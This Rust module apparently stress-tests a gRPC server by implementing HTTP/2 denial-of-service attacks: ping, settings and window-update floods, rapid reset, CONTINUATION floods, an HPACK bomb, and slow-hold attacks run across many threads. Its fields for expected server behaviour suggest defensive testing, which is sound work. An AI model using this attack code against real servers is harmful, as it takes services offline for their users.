//! Attacks on HTTP/2 itself, and who carries them out.

use std::{
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
        mpsc,
    },
    thread::JoinHandle,
    time::Duration,
};

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE, call,
    frame, literal, message,
};

/// A call that asks for much.
pub(crate) const LOOKUP: &str = "/dossier.v1.EntityService/GetEntity";
/// A call that strangers may make.
pub(crate) const CHECK_HEALTH: &str = "/grpc.health.v1.Health/Check";
/// A message of a lookup: `entity`, of 5 bytes, which has a text of 100 kB.
pub(crate) const GET: &[u8] = b"\x0a\x05<d:0>";
/// The same for an entity of some facts.
const GET_LITTLE: &[u8] = b"\x0a\x18<http://example.org/e/1>";
/// Frames that are sent at once.
pub(crate) const FRAME_COUNT: usize = 100;
/// What a frame may have, unless more is agreed upon (RFC 9113, section 4.2).
const DATA_BYTES_MAX: usize = 16 << 10;
/// Connections that each attacker holds, of those that do not flood.
pub(crate) const HELD_COUNT: usize = 50;
/// An attacker that is not listened to for so long begins anew.
const BLOCKED_MAX: Duration = Duration::from_millis(500);
/// The setting for the window of new streams (RFC 9113, section 6.5.2).
pub(crate) const INITIAL_WINDOW_SIZE: u16 = 4;

/// An attack from one connection.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// What the connection begins with; without it not even HTTP/2 does.
    settings: Option<&'static [(u16, u32)]>,
    /// Sends something once.
    begin: fn(&mut Raw) -> io::Result<()>,
    /// Sends something again and again; without it the connection is held, and others beside it.
    again: Option<fn(&mut Raw) -> io::Result<()>>,
    /// Whether the attacker takes the answers.
    reads: bool,
    /// Whether the server must cut the connection, and not only refuse streams.
    pub(crate) is_cut: bool,
    /// Whether the server must have all connections at once.
    pub(crate) is_held: bool,
}

const FLOOD: Attack = Attack {
    name: "",
    settings: Some(&[]),
    begin: nothing,
    again: None,
    reads: true,
    is_cut: true,
    is_held: false,
};
const HOLD: Attack = Attack {
    reads: false,
    is_cut: false,
    is_held: true,
    ..FLOOD
};

/// Calls that are not let in where callers must show something.
pub(crate) const CALLS: Attack = Attack {
    name: "calls without a credential",
    again: Some(calls),
    is_cut: false,
    ..FLOOD
};

pub(crate) const ATTACKS: [Attack; 24] = [
    Attack {
        name: "PING",
        again: Some(ping),
        ..FLOOD
    },
    Attack {
        name: "PING, answers not read",
        again: Some(ping),
        reads: false,
        ..FLOOD
    },
    Attack {
        name: "PING of acknowledgement",
        again: Some(pong),
        ..FLOOD
    },
    Attack {
        name: "SETTINGS",
        again: Some(settings),
        ..FLOOD
    },
    Attack {
        name: "SETTINGS of windows",
        begin: open_streams,
        again: Some(windows),
        ..FLOOD
    },
    Attack {
        name: "PRIORITY",
        again: Some(priority),
        ..FLOOD
    },
    Attack {
        name: "WINDOW_UPDATE",
        again: Some(window_update),
        ..FLOOD
    },
    Attack {
        name: "unknown frames",
        again: Some(unknown),
        ..FLOOD
    },
    Attack {
        name: "empty DATA",
        begin: open_stream,
        again: Some(empty_data),
        ..FLOOD
    },
    Attack {
        name: "DATA of a byte",
        begin: open_stream,
        again: Some(small_data),
        is_cut: false,
        ..FLOOD
    },
    Attack {
        name: "rapid reset",
        again: Some(rapid_reset),
        ..FLOOD
    },
    Attack {
        name: "CONTINUATION",
        begin: open_headers,
        again: Some(continuation),
        ..FLOOD
    },
    Attack {
        name: "streams without end",
        again: Some(open_streams),
        ..FLOOD
    },
    Attack {
        name: "HPACK bomb",
        again: Some(hpack_bomb),
        ..FLOOD
    },
    Attack {
        name: "calls, answers not read",
        again: Some(calls),
        reads: false,
        is_cut: false,
        ..FLOOD
    },
    Attack {
        name: "noise",
        again: Some(noise),
        ..FLOOD
    },
    Attack {
        name: "zero windows",
        settings: Some(&[(INITIAL_WINDOW_SIZE, 0)]),
        begin: some_calls,
        ..HOLD
    },
    Attack {
        name: "windows of a byte",
        settings: Some(&[(INITIAL_WINDOW_SIZE, 1)]),
        begin: some_calls,
        ..HOLD
    },
    Attack {
        name: "silent sockets",
        settings: None,
        ..HOLD
    },
    Attack {
        name: "half a preface",
        settings: None,
        begin: half_preface,
        ..HOLD
    },
    Attack {
        name: "open streams",
        begin: open_streams,
        ..HOLD
    },
    // More of each than `--calls-max`.
    Attack {
        name: "half messages",
        begin: half_messages,
        ..HOLD
    },
    Attack {
        name: "messages without end",
        begin: messages_without_end,
        ..HOLD
    },
    Attack {
        name: "half messages of health",
        begin: half_messages_of_health,
        // They are too large: the server refuses them at once.
        is_held: false,
        ..HOLD
    },
];

#[expect(clippy::unnecessary_wraps, reason = "one of several")]
const fn nothing(_: &mut Raw) -> io::Result<()> {
    Ok(())
}

fn ping(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(PING, 0, 0, &[7; 8]).repeat(FRAME_COUNT))
}

fn pong(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(PING, 1, 0, &[7; 8]).repeat(FRAME_COUNT))
}

fn settings(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(SETTINGS, 0, 0, &[]).repeat(FRAME_COUNT))
}

fn windows(raw: &mut Raw) -> io::Result<()> {
    let small = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let large = frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]);
    raw.send(&[small, large].concat().repeat(FRAME_COUNT / 2))
}

fn priority(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9]).repeat(FRAME_COUNT))
}

fn window_update(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(FRAME_COUNT))
}

fn unknown(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(0xee, 0, 0, &[7; 8]).repeat(FRAME_COUNT))
}

fn open_stream(raw: &mut Raw) -> io::Result<()> {
    let stream = raw.stream();
    raw.send(&frame(HEADERS, END_HEADERS, stream, &call(LOOKUP)))
}

pub(crate) fn open_streams(raw: &mut Raw) -> io::Result<()> {
    (0..FRAME_COUNT).try_for_each(|_| open_stream(raw))
}

fn half_messages(raw: &mut Raw) -> io::Result<()> {
    let message = message(GET_LITTLE);
    open_with(raw, LOOKUP, &message[..message.len() / 2])
}

fn messages_without_end(raw: &mut Raw) -> io::Result<()> {
    open_with(raw, LOOKUP, &message(GET_LITTLE))
}

fn half_messages_of_health(raw: &mut Raw) -> io::Result<()> {
    open_with(raw, CHECK_HEALTH, &half_message(32 << 10))
}

/// Returns the first half of a message.
pub(crate) fn half_message(byte_count: usize) -> Vec<u8> {
    let mut message = message(&vec![0; 2 * byte_count]);
    message.truncate(byte_count);
    message
}

/// Opens streams, each with a part of a message, and ends none.
fn open_with(raw: &mut Raw, path: &str, part: &[u8]) -> io::Result<()> {
    (0..FRAME_COUNT).try_for_each(|_| {
        let stream = raw.stream();
        let mut frames = frame(HEADERS, END_HEADERS, stream, &call(path));
        for piece in part.chunks(DATA_BYTES_MAX) {
            frames.extend(frame(DATA, 0, stream, piece));
        }
        raw.send(&frames)
    })
}

fn empty_data(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(DATA, 0, 1, &[]).repeat(FRAME_COUNT))
}

/// A message of 16 MiB less a byte, a byte at a time.
fn small_data(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(DATA, 0, 1, &[0]).repeat(FRAME_COUNT))
}

fn rapid_reset(raw: &mut Raw) -> io::Result<()> {
    let mut frames = Vec::new();
    for _ in 0..FRAME_COUNT {
        let stream = raw.stream();
        frames.extend(frame(HEADERS, END_HEADERS, stream, &call(LOOKUP)));
        frames.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
    }
    raw.send(&frames)
}

fn open_headers(raw: &mut Raw) -> io::Result<()> {
    let stream = raw.stream();
    raw.send(&frame(HEADERS, 0, stream, &call(LOOKUP)))
}

fn continuation(raw: &mut Raw) -> io::Result<()> {
    raw.send(&frame(CONTINUATION, 0, 1, &literal("a", "b")).repeat(FRAME_COUNT))
}

/// An entry of 4 kB in the table, named 12,000 times.
fn hpack_bomb(raw: &mut Raw) -> io::Result<()> {
    let stream = raw.stream();
    let mut block = call(LOOKUP);
    // A new entry whose name has one letter and whose value has 127 + 0x21 + 128 * 0x1e = 4,000.
    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend([b'y'; 4_000]);
    block.extend([0xbe; 12_000]);
    raw.send(&frame(HEADERS, END_HEADERS, stream, &block))
}

fn some_calls(raw: &mut Raw) -> io::Result<()> {
    (0..10).try_for_each(|_| raw.call(LOOKUP, GET_LITTLE).map(|_| ()))
}

pub(crate) fn calls(raw: &mut Raw) -> io::Result<()> {
    (0..FRAME_COUNT).try_for_each(|_| raw.call(LOOKUP, GET).map(|_| ()))
}

/// Frames that break a rule, each in its own way, on one connection.
fn noise(raw: &mut Raw) -> io::Result<()> {
    let stream = raw.stream();
    raw.send(&frame(0xee, 0xff, stream | 1 << 31, &[0xff; 1_000]))?;
    raw.send(&frame(HEADERS, 0xff, stream, &[0xff; 1_000]))?;
    raw.send(&frame(RST_STREAM, 0, 0, &[0; 3]))
}

fn half_preface(raw: &mut Raw) -> io::Result<()> {
    raw.send(b"PRI * HTTP/2")
}

/// What attackers have come to.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Toll {
    pub(crate) connections: u64,
    /// Connections that the server ended.
    pub(crate) cut: u64,
}

/// Attackers at work, each with one connection after another.
pub(crate) struct Siege {
    is_over: Arc<AtomicBool>,
    /// Held so long as those that hold connections are to.
    holds: Vec<mpsc::Sender<()>>,
    threads: Vec<JoinHandle<Toll>>,
}

impl Siege {
    pub(crate) fn begin(address: SocketAddr, attack: &'static Attack, attacker_count: usize) -> Self {
        let is_over = Arc::new(AtomicBool::new(false));
        let mut holds = Vec::new();
        let threads = (0..attacker_count)
            .map(|_| {
                let (sender, end) = mpsc::channel();
                holds.push(sender);
                let is_over = Arc::clone(&is_over);
                std::thread::spawn(move || match attack.again {
                    None => attack.hold(address, &end),
                    Some(again) => attack.flood(address, again, &is_over),
                })
            })
            .collect();
        Self {
            is_over,
            holds,
            threads,
        }
    }

    pub(crate) fn end(self) -> Toll {
        self.is_over.store(true, Ordering::Release);
        drop(self.holds);
        let tolls = self.threads.into_iter().map(|thread| thread.join().unwrap());
        tolls.fold(Toll::default(), |sum, toll| Toll {
            connections: sum.connections + toll.connections,
            cut: sum.cut + toll.cut,
        })
    }
}

impl Attack {
    /// Opens a connection and begins.
    pub(crate) fn connect(&self, address: SocketAddr) -> io::Result<Raw> {
        let mut raw = match self.settings {
            Some(settings) => Raw::begin(address, settings)?,
            None => Raw::connect(address)?,
        };
        raw.give_up_after(BLOCKED_MAX)?;
        if self.reads {
            raw.ignore_answers()?;
        }
        (self.begin)(&mut raw)?;
        Ok(raw)
    }

    fn hold(&self, address: SocketAddr, end: &mpsc::Receiver<()>) -> Toll {
        let held: Vec<_> = (0..HELD_COUNT)
            .filter_map(|_| self.connect(address).ok())
            .collect();
        // Nothing is ever sent: the other end is dropped.
        let _ = end.recv();
        Toll {
            connections: held.len() as u64,
            cut: 0,
        }
    }

    fn flood(
        &self,
        address: SocketAddr,
        again: fn(&mut Raw) -> io::Result<()>,
        is_over: &AtomicBool,
    ) -> Toll {
        let mut toll = Toll::default();
        while !is_over.load(Ordering::Acquire) {
            toll.connections += 1;
            let Ok(mut raw) = self.connect(address) else {
                continue;
            };
            while !is_over.load(Ordering::Acquire) {
                match again(&mut raw) {
                    Ok(()) => {}
                    // Not listened to, which does no harm.
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
                    Err(_) => {
                        toll.cut += 1;
                        break;
                    }
                }
            }
        }
        toll
    }
}
